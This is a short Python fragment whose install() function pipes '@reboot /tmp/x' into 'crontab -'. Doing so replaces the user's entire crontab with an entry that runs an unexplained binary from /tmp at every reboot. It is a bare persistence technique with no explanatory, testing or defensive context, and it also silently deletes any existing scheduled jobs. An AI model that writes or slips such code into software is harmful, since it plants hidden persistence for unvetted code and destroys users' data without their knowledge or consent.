import subprocess
def install():
    subprocess.run(["crontab", "-"], input="@reboot /tmp/x\n", text=True)
